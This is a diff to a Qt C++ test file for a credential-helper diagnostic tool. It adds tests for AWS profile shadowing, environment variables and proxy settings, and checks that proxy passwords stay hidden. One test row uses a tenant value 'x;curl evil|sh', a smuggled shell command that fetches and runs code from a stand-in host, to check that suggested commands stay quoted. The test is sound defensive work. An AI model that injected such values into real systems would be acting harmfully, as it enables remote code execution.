@@ -1,5 +1,6 @@
 #include "broker/doctorchecks.h"
 #include "commandworld.h"
+#include "core/proxyvariables.h"
 
 #include <QtTest>
 
@@ -135,6 +136,19 @@ private Q_SLOTS:
         QTest::newRow("shadowed") << QByteArray("HELPER") + rest
                                   << QByteArray("[work]\naws_access_key_id = AKIA\n")
                                   << QStringLiteral("broken") << QStringLiteral("shadowed");
+        QTest::newRow("shadowed by SSO")
+            << QByteArray("HELPER") + rest << QByteArray("[work]\nsso_session = corp\n")
+            << QStringLiteral("broken") << QStringLiteral("(sso_session)");
+        QTest::newRow("shadowed by itself")
+            << QByteArray("HELPER") + rest + QByteArray("\nrole_arn = arn\nsource_profile = x")
+            << QByteArray() << QStringLiteral("broken")
+            << QStringLiteral("(role_arn, source_profile): to write it anew, run: ");
+        QTest::newRow("a name that is a command")
+            << QByteArray("/nowhere/duplo-tray-jit credential-process --host acme.duplocloud.net --tenant "
+                          "'x;curl evil|sh'")
+            << QByteArray() << QStringLiteral("broken")
+            << QStringLiteral("run: duplo-tray-jit profile add work --host https://acme.duplocloud.net "
+                              "--tenant 'x;curl evil|sh' --replace");
         QTest::newRow("the only portal") << QByteArray("HELPER credential-process --tenant dev01")
                                          << QByteArray() << QStringLiteral("ok") << QStringLiteral("dev01");
         QTest::newRow("what to type")
@@ -183,11 +197,13 @@ private Q_SLOTS:
     void whatTheCallerSees()
     {
         const auto bad = report(QStringLiteral("--caller-variables AWS_PROFILE,AWS_REGION,AWS_ACCESS_KEY_ID "
-                                               "--caller-folder /run/x --caller-folder-private no "
-                                               "--caller-version 0.0.1 --caller-helper /bin/true"));
+                                               "--caller-folder HOME/x --caller-folder-private no "
+                                               "--caller-version 0.0.1 --caller-helper /bin/true")
+                                    .replace(QLatin1String("HOME"), QDir::homePath()));
         QCOMPARE(state(bad, QStringLiteral("environment")), QStringLiteral("warning"));
         QVERIFY(text(bad, QStringLiteral("environment"))
                     .startsWith(QStringLiteral("AWS_PROFILE, AWS_ACCESS_KEY_ID set")));
+        QVERIFY(text(bad, QStringLiteral("socket")).contains(QStringLiteral("write into ~/x: chmod")));
         QCOMPARE(state(bad, QStringLiteral("socket")), QStringLiteral("broken"));
         QCOMPARE(state(bad, QStringLiteral("agent")), QStringLiteral("warning"));
         QCOMPARE(state(bad, QStringLiteral("helper")), QStringLiteral("warning"));
@@ -195,6 +211,37 @@ private Q_SLOTS:
         const auto good =
             report(QStringLiteral("--caller-aws /usr/bin/aws --caller-aws-version aws-cli/2.9.19"));
         QCOMPARE(text(good, QStringLiteral("aws")), QStringLiteral("/usr/bin/aws is aws-cli/2.9.19"));
+    }
+
+    void whatDuploTraySetItself_data()
+    {
+        QTest::addColumn<QString>("names");
+        QTest::addColumn<QString>("state");
+        QTest::addColumn<QString>("says");
+        const QString keys = QStringLiteral(
+            "AWS_ACCESS_KEY_ID,AWS_CREDENTIAL_EXPIRATION,AWS_REGION,AWS_SECRET_ACCESS_KEY,AWS_SESSION_TOKEN");
+        const QString now = QStringLiteral(",DUPLO_TRAY_NOW,DUPLO_TRAY_UNTIL");
+        QTest::newRow("jitnow") << QString(QStringLiteral("AWS_PROFILE") + now) << QStringLiteral("ok")
+                                << QStringLiteral("jitnow --off");
+        QTest::newRow("jitnow's keys")
+            << QString(keys + now) << QStringLiteral("ok") << QStringLiteral("jitnow --off");
+        QTest::newRow("exec") << QString(keys + QStringLiteral(",DUPLO_TRAY_SESSION")) << QStringLiteral("ok")
+                              << QStringLiteral("leaving this shell");
+        QTest::newRow("somebody else") << keys << QStringLiteral("warning") << QStringLiteral("unset");
+        QTest::newRow("somebody after jitnow")
+            << QString(keys + QStringLiteral(",AWS_PROFILE") + now) << QStringLiteral("warning")
+            << QStringLiteral("AWS_PROFILE, AWS_ACCESS_KEY_ID");
+        QTest::newRow("only the prompt's")
+            << now << QStringLiteral("ok") << QStringLiteral("no AWS variable");
+    }
+    void whatDuploTraySetItself()
+    {
+        QFETCH(QString, names);
+        QFETCH(QString, says);
+        const auto all = report(QStringLiteral("--caller-variables ") + names);
+        QTEST(state(all, QStringLiteral("environment")), "state");
+        const QString why = text(all, QStringLiteral("environment"));
+        QVERIFY2(why.contains(says), qPrintable(why));
     }
 
     void whoseTheSocketIs()
@@ -281,9 +328,45 @@ private Q_SLOTS:
         QFETCH(QString, shown);
         const QByteArray before = qgetenv("https_proxy");
         qputenv("https_proxy", value);
-        const Finding finding = proxyFinding();
+        const Finding finding = proxyFinding({});
         before.isEmpty() ? qunsetenv("https_proxy") : qputenv("https_proxy", before);
         QVERIFY2(finding.text.contains(shown), qPrintable(finding.text));
+        QVERIFY(!finding.text.contains(QLatin1String("hunter2")));
+    }
+
+    void anotherProxyThanTheCallers_data()
+    {
+        QTest::addColumn<QStringList>("flags");
+        QTest::addColumn<Finding::State>("state");
+        const QString flag = QStringLiteral("--caller-proxies=");
+        QTest::newRow("not told") << QStringList() << Finding::State::Fine;
+        QTest::newRow("the same") << QStringList(
+            flag + QStringLiteral("https_proxy=http://proxy.example:3128\nno_proxy=localhost"))
+                                  << Finding::State::Fine;
+        QTest::newRow("none there") << QStringList(flag) << Finding::State::Careful;
+        QTest::newRow("another") << QStringList(flag + QStringLiteral("https_proxy=http://other.example:1"))
+                                 << Finding::State::Careful;
+        QTest::newRow("other exceptions")
+            << QStringList(flag + QStringLiteral("https_proxy=http://proxy.example:3128"))
+            << Finding::State::Careful;
+    }
+    void anotherProxyThanTheCallers()
+    {
+        QFETCH(QStringList, flags);
+        const auto parsed = CommandFlags::parse(flags, {QStringLiteral("caller-proxies")}, {});
+        QVERIFY(parsed.has_value());
+        QHash<const char *, QByteArray> before;
+        for (const char *name : proxyVariables) {
+            before.insert(name, qgetenv(name));
+            qunsetenv(name);
+        }
+        qputenv("https_proxy", "http://bob:hunter2@proxy.example:3128");
+        qputenv("no_proxy", "localhost");
+        const Finding finding = proxyFinding(*parsed);
+        for (const char *name : proxyVariables)
+            before[name].isEmpty() ? qunsetenv(name) : qputenv(name, before[name]);
+        QTEST(finding.state, "state");
+        QVERIFY2(finding.text.contains(QLatin1String("no_proxy=localhost")), qPrintable(finding.text));
         QVERIFY(!finding.text.contains(QLatin1String("hunter2")));
     }
 };
